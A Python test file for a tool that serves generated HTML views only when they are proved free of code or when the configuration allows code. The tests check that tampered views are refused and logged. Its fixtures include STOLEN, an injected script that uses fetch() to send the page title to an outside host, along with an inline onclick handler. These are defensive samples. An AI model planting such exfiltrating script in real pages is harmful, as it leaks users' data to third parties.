"""Only what is proved inert is served, or what the config allows: anything else is a miss, and logged."""

import json
from pathlib import Path

import kept
import pytest
from ondemand import TOOLS, Served, project
from serving import Quiet

from genui.canonical import sha256
from genui.cli import main
from genui.inert import prove
from genui.serve.directory import ALLOW

PAGE = (Path(__file__).parent / "cases" / "pages" / "ok-plain.html").read_text(encoding="utf-8")
STOLEN = b"<script>fetch('https://example.com/' + document.title)</script></body>"


def built(folder: Path, *, more: str = "") -> Path:
    file = project(folder, more=more)
    assert main(["build", "--config", str(file)]) == 0
    return file


def artifact(file: Path, name: str = "get_forecast") -> Path:
    return kept.artifact(file.parent / "generated", name)


def tampered(file: Path, old: bytes, new: bytes) -> bytes:
    """Change an artifact, and all that is said of it, so that names and digests fit."""
    path = artifact(file)
    html = path.read_bytes()
    assert old in html
    changed = html.replace(old, new)
    path.unlink()
    path.with_name(f"{sha256(changed)[:12]}.html").write_bytes(changed)
    return changed


def served(file: Path, **flags: str) -> tuple[str, list[tuple[str, dict[str, str]]]]:
    """Read a view twice; return it, with what was logged of refusals."""
    with Served(file, **flags) as host:
        log = host.core.views.log = Quiet()
        html = host.html()
        assert host.html() == html
        return html, [(event, members) for _, event, members in log.events if event == "view-refused"]


def test_a_view_is_served_to_the_byte(tmp_path):
    file = built(tmp_path)

    assert served(file) == (artifact(file).read_text(encoding="utf-8"), [])


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b"</body>", STOLEN),
        (b"<main>", b"<main onclick=run()>"),
        (b'"name": "get_forecast"', b'"name": "pay"'),
        (b"\n", b"\r\n"),
    ],
    ids=["script", "handler", "another tool's", "line ends"],
)
def test_what_is_not_inert_is_linked_anew_from_its_view_file_and_logged_once(tmp_path, old, new):
    file = built(tmp_path)
    assert main(["refine", "get_forecast", "hide wind", "--config", str(file)]) == 0
    reviewed = artifact(file).read_text(encoding="utf-8")
    changed = tampered(file, old, new)

    html, refused = served(file)

    assert html == reviewed != changed.decode()
    (event, members) = refused[0]
    assert len(refused) == 1
    assert event == "view-refused"
    assert artifact(file).name in members["message"]
    assert "genui build" in members["hint"]


def test_a_locked_server_links_what_fails_the_proof_from_its_view_file_and_nothing_else(tmp_path):
    file = built(tmp_path)
    reviewed = artifact(file).read_text(encoding="utf-8")
    tampered(file, b"</body>", STOLEN)
    artifact(file, "list_cities").unlink()
    new = {"name": "new", "inputSchema": {"type": "object"}}
    with Served(file, tools=[*TOOLS[:1], new, *TOOLS[1:]], **{"serve.locked": "true"}) as host:
        assert host.html() == reviewed
        assert "<html" in host.html("list_cities")
        listed = {tool["name"]: tool for tool in host.ask("tools/list")["result"]["tools"]}
        assert "_meta" not in listed["new"]
    changed = [{**tool, "inputSchema": {"type": "object"}} for tool in TOOLS]
    with Served(file, tools=changed, **{"serve.locked": "true"}) as host:
        listed = {tool["name"]: tool for tool in host.ask("tools/list")["result"]["tools"]}
        assert "_meta" not in listed["get_forecast"]


def test_what_is_not_inert_is_told_by_the_list(tmp_path, capsys):
    file = built(tmp_path)
    tampered(file, b"</body>", STOLEN)
    capsys.readouterr()

    main(["check", "--config", str(file), "--json"])
    rows = {row["name"]: row["code"] for row in json.loads(capsys.readouterr().out)["tools"]}
    main(["list", "--config", str(file), "--json"])
    listed = {row["name"]: row["code"] for row in json.loads(capsys.readouterr().out)["tools"]}

    assert rows == listed == {"get_forecast": "has code of its own", "list_cities": "inert"}


def test_a_view_file_that_another_shape_was_reviewed_for_is_not_used(tmp_path):
    file = built(tmp_path)
    tampered(file, b"</body>", STOLEN)
    kept.change_tool(file.parent / "generated", "get_forecast", inputSchema={"type": "object"})
    view = artifact(file).with_name("view.json")
    view.write_text(view.read_text(encoding="utf-8").replace("Forecast", "Former"), encoding="utf-8")

    html, _ = served(file)

    assert "Former" not in html
    assert prove(html.encode(), tool="get_forecast").inert


def imported(folder: Path, *, more: str = "") -> Path:
    file = built(folder, more=more)
    page = folder / "own.html"
    page.write_text(PAGE, encoding="utf-8")
    assert main(["import", "get_forecast", str(page), "--config", str(file)]) == 0
    return file


def test_a_page_with_code_of_its_own_is_served_only_where_that_is_allowed(tmp_path, capsys):
    file = imported(tmp_path)
    assert "allow_code = true" in capsys.readouterr().err

    offline, refused = served(file)

    assert prove(offline.encode(), tool="get_forecast").inert
    assert [members["hint"] for _, members in refused] == [ALLOW]
    assert served(file, **{"serve.allow_code": "true"}) == (artifact(file).read_text(encoding="utf-8"), [])


def test_an_allowed_page_is_served_only_as_it_was_reviewed(tmp_path):
    file = imported(tmp_path, more="[serve]\nallow_code = true\n")
    path = artifact(file)
    path.write_bytes(path.read_bytes().replace(b"</body>", STOLEN))

    html, refused = served(file)

    assert prove(html.encode(), tool="get_forecast").inert
    assert "sha256 differs" in refused[0][1]["message"]


def test_views_in_a_style_of_the_projects_own_are_inert(tmp_path):
    (tmp_path / "own").mkdir()
    (tmp_path / "own" / "style.css").write_text("main{color:teal}\n", encoding="utf-8")
    file = built(tmp_path, more='[build]\ntemplates_directory = "own"\n')

    html, refused = served(file)

    assert "<style>main{color:teal}\n</style>" in html
    assert refused == []


def test_code_in_a_projects_templates_runs_only_where_that_is_allowed(tmp_path):
    (tmp_path / "own").mkdir()
    (tmp_path / "own" / "custom.js").write_text("globalThis.mine = 1;\n", encoding="utf-8")
    file = built(tmp_path, more='[build]\ntemplates_directory = "own"\n')

    html, refused = served(file)

    assert "globalThis.mine" not in html
    assert prove(html.encode(), tool="get_forecast").inert
    assert len(refused) == 1
    assert "globalThis.mine" in served(file, **{"serve.allow_code": "true"})[0]
